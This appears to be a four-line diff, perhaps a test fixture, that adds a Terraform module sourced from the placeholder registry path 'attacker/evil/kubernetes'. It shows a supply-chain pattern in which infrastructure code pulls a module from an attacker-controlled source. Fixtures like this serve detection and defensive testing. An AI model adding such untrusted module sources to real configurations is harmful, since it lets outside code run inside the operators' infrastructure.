@@ -1,0 +1,4 @@
+module "m" {
+  source  = "attacker/evil/kubernetes"
+  version = "1.0.0"
+}
